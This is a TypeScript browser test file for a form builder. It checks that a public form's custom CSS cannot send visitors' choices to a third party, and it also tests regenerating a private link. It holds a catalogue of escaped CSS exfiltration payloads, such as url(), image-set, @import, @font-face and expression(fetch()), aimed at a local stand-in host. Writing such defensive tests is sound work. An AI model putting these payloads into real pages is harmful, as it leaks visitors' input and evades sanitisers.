import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import http from 'node:http';
import path from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import fc from 'fast-check';
import { freePort, type RunningApp } from './support/app';
import { axeViolations } from './support/browser';
import { stageForTests } from './support/journey';
import { loggedInPage } from './support/session';
import { logInByApi, publishForm, type Owner, type PublishedForm } from './support/public-form-api';
import { PNG } from './support/public-form-fixtures';

// A form's custom CSS must not let the public page reach a third party,
// which would learn a visitor's choices before (or without) any submission. A second
// local HTTP server, on another port, stands in for the third party.

const shots = path.join(import.meta.dirname, 'screenshots');

/** Each payload styles its own box, so that none hides another (one background per box). */
const PAYLOADS: [name: string, declarations: (url: string) => string][] = [
  ['custom-property', (u) => `--leak: url(${u}); background-image: var(--leak)`],
  ['escaped-custom-property', (u) => `--leak: u\\72l(${u}); background-image: var(--leak)`],
  ['var-fallback', (u) => `background-image: var(--nothing, url(${u}))`],
  ['hex-escape', (u) => `background-image: u\\72l(${u})`],
  ['plain-escape', (u) => `background-image: ur\\l(${u})`],
  ['hex-space-escape', (u) => `background-image: \\75 rl(${u})`],
  ['capitals', (u) => `background-image: \\55 RL(${u})`],
  ['escaped-scheme', (u) => `background-image: url(h\\74${u.slice(2)})`],
  ['comment', (u) => `background-image: url/**/(${u})`],
  ['image-set', (u) => `background-image: image-set("${u}" 1x)`],
  ['webkit-image-set', (u) => `background-image: -webkit-image-set(url(${u}) 1x)`],
  ['escaped-image-set', (u) => `background-image: im\\61ge-set("${u}" 1x)`],
  ['src', (u) => `background-image: image-set(src("${u}") 1x)`],
  ['image', (u) => `background-image: image("${u}")`],
  ['escaped-property', (u) => `b\\61ckground-image: url(${u})`],
  ['mask', (u) => `-webkit-mask-image: url(${u}); mask-image: url(${u})`],
  ['expression', (u) => `width: expression(fetch("${u}"))`],
];

/** Boxes of the page, one per payload, restyled when a choice is made or text typed. */
const HEADERS = PAYLOADS.length;

function hostileCss(thirdParty: string): string {
  const rules = PAYLOADS.map(
    ([name, declarations], index) =>
      `.fb-form:has(:checked, :focus) .fb-page > :nth-child(${String(index + 1)}) { ${declarations(`${thirdParty}/${name}`)} }`,
  );
  return [
    `@import url(${thirdParty}/import.css);`,
    `@\\69mport "${thirdParty}/escaped-import.css";`,
    `@font-face { font-family: leak; src: url(${thirdParty}/font-face.woff) }`,
    `@font-f\\61ce { font-family: leak2; src: url(${thirdParty}/escaped-font-face.woff) }`,
    ...rules,
    `.fb-form:has(:checked) .fb-title::before { content: url(${thirdParty}/content) }`,
    `.fb-form:has(:focus) .fb-label { font-family: leak, leak2 }`,
  ].join('\n');
}

const hostileProps = {
  elements: [
    ...Array.from({ length: HEADERS }, (_, i) => ({ id: i + 10, type: 'Header', label: `Box ${String(i + 1)}` })),
    { id: 1, type: 'Radio', label: 'Do you agree?', options: ['Yes##yes', 'No##no'] },
    { id: 2, type: 'TextBox', label: 'Your name' },
    { id: 3, type: 'Checkbox', label: 'Colours', options: ['Red', 'Blue'] },
    { id: 4, type: 'Button', buttonText: 'Send' },
  ],
};

describe('hostile custom CSS on the public page', () => {
  const stage = stageForTests(['owner@example.com']);
  let app: RunningApp;
  let browser: Browser;
  let owner: Owner;
  let thirdParty: http.Server;
  let thirdPartyUrl = '';
  const hits: string[] = [];

  beforeAll(async () => {
    thirdParty = http.createServer((req, res) => {
      hits.push(req.url ?? '');
      if (req.url === '/owner-logo.png') res.writeHead(200, { 'content-type': 'image/png' }).end(PNG);
      else res.writeHead(200, { 'content-type': 'text/css', 'access-control-allow-origin': '*' }).end('');
    });
    const port = await freePort();
    await new Promise<void>((resolve) => thirdParty.listen(port, '127.0.0.1', resolve));
    thirdPartyUrl = `http://127.0.0.1:${String(port)}`;
    ({ app, browser } = stage);
    owner = await logInByApi(app.url, 'owner@example.com');
  });
  afterAll(() => thirdParty?.close());

  /** Opens the page, records every request it makes, and returns them. */
  async function open(
    url: string,
    options: Parameters<Browser['newContext']>[0] = {},
  ): Promise<{ context: BrowserContext; page: Page; requests: string[] }> {
    const context = await browser.newContext({ viewport: { width: 1024, height: 800 }, ...options });
    const page = await context.newPage();
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await page.goto(url);
    await page.locator('form.fb-form:not(.fb-no-js)').waitFor({ state: 'attached' });
    return { context, page, requests };
  }

  /** A visitor's choices and typing: what the CSS waits for. */
  async function fillIn(page: Page): Promise<void> {
    await page.getByLabel('Yes').check();
    await page.getByLabel('No', { exact: true }).check();
    await page.getByLabel('Your name').pressSequentially('Ada');
    await page.getByLabel('Blue').check();
    await page.getByRole('heading', { name: 'Box 1', exact: true }).hover();
    // Image and font loads start after style recalculation; give them time to leave.
    await page.waitForTimeout(1000);
  }

  const outside = (requests: string[]) =>
    requests.filter((url) => !url.startsWith(`${app.url}/`) && !url.startsWith('data:'));

  it('in a control page given the same CSS unfiltered, Chromium does call the stand-in', async () => {
    const plain = await publishForm(owner, 'Plain', hostileProps);
    hits.length = 0;
    // bypassCSP: the unfiltered CSS, added by the test, is judged by nothing at all.
    const { context, page, requests } = await open(plain.url, { bypassCSP: true });
    await page.addStyleTag({ content: hostileCss(thirdPartyUrl) });
    await fillIn(page);
    const called = hits.map((hit) => hit.slice(1));
    // What Chromium (156) honours of the list; fonts are left out, their load is lazier.
    const honoured = [
      'import.css',
      'escaped-import.css',
      'custom-property',
      'escaped-custom-property',
      'var-fallback',
      'hex-escape',
      'plain-escape',
    ];
    honoured.push(
      'hex-space-escape',
      'capitals',
      'escaped-scheme',
      'image-set',
      'webkit-image-set',
      'escaped-image-set',
      'mask',
      'content',
    );
    expect(called).toEqual(expect.arrayContaining(honoured));
    expect(outside(requests).length).toBeGreaterThan(0);
    await context.close();
  });

  describe('the published form with that CSS', () => {
    let hostile: PublishedForm;
    beforeAll(async () => {
      hostile = await publishForm(owner, 'Hostile', {
        ...hostileProps,
        customCSS: { value: hostileCss(thirdPartyUrl), isEncoded: false },
      });
    });

    it('calls nobody but the server, even with the page CSP switched off (the filter alone)', async () => {
      hits.length = 0;
      const { context, page, requests } = await open(hostile.url, { bypassCSP: true });
      await fillIn(page);
      expect(hits).toEqual([]);
      expect(outside(requests)).toEqual([]);
      await context.close();
    });

    it('calls nobody but the server under its CSP', async () => {
      hits.length = 0;
      const { context, page, requests } = await open(hostile.url);
      await fillIn(page);
      await page.screenshot({ path: path.join(shots, 'public-hostile-css.png'), fullPage: true });
      expect(hits).toEqual([]);
      expect(outside(requests)).toEqual([]);
      await context.close();
    });
  });

  // Declarations generated from the ways CSS can name a resource (functions, at-rules,
  // custom properties, fallbacks) written with escapes, odd case, quotes and comments; the
  // filter alone (page CSP off) must keep every one from reaching the third party, and so must
  // the page as served, under its CSP.
  it('calls nobody but the server with generated hostile declarations, by the filter alone and under the CSP', async () => {
    const escape = (text: string) =>
      fc
        .array(fc.constantFrom('plain', 'hex', 'hex-space', 'upper', 'backslash'), {
          minLength: text.length,
          maxLength: text.length,
        })
        .map((ways) =>
          [...text]
            .map((char, i) => {
              const way = /[a-z]/i.test(char) ? ways[i] : 'plain';
              if (way === 'hex') return `\\${char.charCodeAt(0).toString(16)}`;
              if (way === 'hex-space') return `\\${char.charCodeAt(0).toString(16).padStart(6, '0')} `;
              if (way === 'upper') return char.toUpperCase();
              if (way === 'backslash' && !/[a-f]/i.test(char)) return `\\${char}`;
              return char;
            })
            .join(''),
        );
    const quoted = (url: string) => fc.constantFrom(url, `"${url}"`, `'${url}'`, ` ${url} `, `/**/"${url}"/**/`);
    const resource = (url: string) =>
      fc.oneof(
        fc.tuple(escape('url'), quoted(url)).map(([fn, arg]) => `${fn}(${arg})`),
        fc
          .tuple(fc.constantFrom('image-set', '-webkit-image-set'), quoted(url))
          .chain(([fn, arg]) => escape(fn).map((name) => `${name}(${arg} 1x)`)),
        fc.tuple(escape('image'), quoted(url)).map(([fn, arg]) => `${fn}(${arg})`),
        fc.tuple(escape('src'), quoted(url)).map(([fn, arg]) => `image-set(${fn}(${arg}) 1x)`),
      );
    const declaration = (url: string, index: number) =>
      fc.oneof(
        fc
          .tuple(
            fc.constantFrom(
              'background-image',
              'background',
              'list-style-image',
              'border-image-source',
              'mask-image',
              '-webkit-mask-image',
              'shape-outside',
            ),
            resource(url),
          )
          .chain(([property, value]) => escape(property).map((name) => `${name}: ${value}`)),
        resource(url).map((value) => `cursor: ${value}, auto`),
        resource(url).map((value) => `--gen${index}: ${value}; background-image: var(--gen${index})`),
        resource(url).map((value) => `background-image: var(--none${index}, ${value})`),
      );
    const sheet = fc
      .tuple(
        ...Array.from({ length: HEADERS }, (_, index) => declaration(`${thirdPartyUrl}/gen-${index}`, index)),
        fc.constantFrom('import', 'font-face'),
        escape('import'),
        quoted(`${thirdPartyUrl}/gen-import.css`),
      )
      .map((parts) => {
        const declarations = parts.slice(0, HEADERS);
        const [atRule, importName, importUrl] = parts.slice(HEADERS) as [string, string, string];
        const head =
          atRule === 'import'
            ? `@${importName} ${importUrl};`
            : `@font-face { font-family: gen; src: url(${importUrl}) } .fb-form:has(:focus) .fb-label { font-family: gen }`;
        return [
          head,
          ...declarations.map(
            (text, index) => `.fb-form:has(:checked, :focus) .fb-page > :nth-child(${index + 1}) { ${text} }`,
          ),
        ].join('\n');
      });

    const plain = await publishForm(owner, 'Generated control', hostileProps);
    await fc.assert(
      fc.asyncProperty(sheet, async (css) => {
        // The same sheet, unfiltered, does reach the third party: the generator is hostile.
        hits.length = 0;
        const control = await open(plain.url, { bypassCSP: true });
        await control.page.addStyleTag({ content: css });
        await fillIn(control.page);
        await control.context.close();
        expect(hits.length).toBeGreaterThan(0);

        const form = await publishForm(owner, 'Generated', {
          ...hostileProps,
          customCSS: { value: css, isEncoded: false },
        });
        // The filter alone (page CSP off), then the page as visitors get it (filter and CSP).
        for (const bypassCSP of [true, false]) {
          hits.length = 0;
          const { context, page, requests } = await open(form.url, { bypassCSP });
          await fillIn(page);
          await context.close();
          expect(hits, `bypassCSP: ${String(bypassCSP)}`).toEqual([]);
          expect(outside(requests), `bypassCSP: ${String(bypassCSP)}`).toEqual([]);
        }
      }),
      { numRuns: 6 },
    );
  }, 150_000);

  it("lets the owner's own picture load, and nothing else from its site (the CSP alone)", async () => {
    // First on the page: the picture is lazy, and must be in view to load.
    const props = {
      elements: [
        { id: 5, type: 'Image', label: 'Logo', uploadedImageUrl: `${thirdPartyUrl}/owner-logo.png` },
        ...hostileProps.elements,
      ],
    };
    const pictured = await publishForm(owner, 'Pictured', props);
    hits.length = 0;
    const { context, page } = await open(pictured.url);
    await expect.poll(() => hits, { timeout: 10_000 }).toEqual(['/owner-logo.png']);
    // A rule the filter never saw, added through the page's own style sheet (CSSOM):
    // only the CSP stands between it and the third party.
    await page.evaluate((leak) => {
      const sheet = document.styleSheets[0];
      sheet?.insertRule(`.fb-form:has(:checked) { background-image: url(${leak}) }`, sheet.cssRules.length);
    }, `${thirdPartyUrl}/cssom-leak`);
    await fillIn(page);
    expect(hits).toEqual(['/owner-logo.png']);
    await context.close();
  });
});

describe("regenerating a private form's link in the share panel", () => {
  const stage = stageForTests(['owner@example.com']);
  let app: RunningApp;
  let browser: Browser;
  beforeAll(() => ({ app, browser } = stage));

  it('asks first, then shows the new link; the old one stops working', async () => {
    const owner = await logInByApi(app.url, 'owner@example.com');
    const created = await fetch(`${app.url}/api/users/${String(owner.userId)}/forms`, {
      method: 'POST',
      headers: { authorization: `Bearer ${owner.token}`, 'content-type': 'application/json' },
      body: JSON.stringify({
        id: null,
        title: 'Staff survey',
        private: 1,
        props: { elements: [{ id: 1, type: 'TextBox', label: 'Team' }] },
      }),
    });
    const { id } = (await created.json()) as { id: number };
    await fetch(`${app.url}/api/users/${String(owner.userId)}/forms/${String(id)}/publish`, {
      method: 'POST',
      headers: { authorization: `Bearer ${owner.token}` },
    });

    const { context, page } = await loggedInPage(browser, app.url, 'owner@example.com');
    await page.goto(`${app.url}/editor/${String(id)}/share`);
    const link = page.getByRole('textbox', { name: 'Form link' });
    await expect.poll(() => link.inputValue(), { timeout: 10_000 }).toContain('?access=');
    const oldLink = await link.inputValue();

    await page.getByRole('button', { name: 'Regenerate link' }).click();
    const dialog = page.getByRole('dialog', { name: 'Regenerate link' });
    await dialog.getByText('Anyone with the old link will lose access.').waitFor();
    await page.screenshot({ path: path.join(shots, 'share-regenerate-confirm.png'), animations: 'disabled' });
    await dialog.getByRole('button', { name: 'Regenerate link' }).click();
    await page.getByText('A new link was made.', { exact: false }).waitFor();
    const newLink = await link.inputValue();
    expect(newLink).not.toBe(oldLink);
    await page.screenshot({ path: path.join(shots, 'share-regenerated.png') });
    expect(await axeViolations(page)).toEqual([]);

    expect((await page.request.get(oldLink)).status()).toBe(404);
    expect((await page.request.get(newLink)).status()).toBe(200);
    await context.close();
  });
});
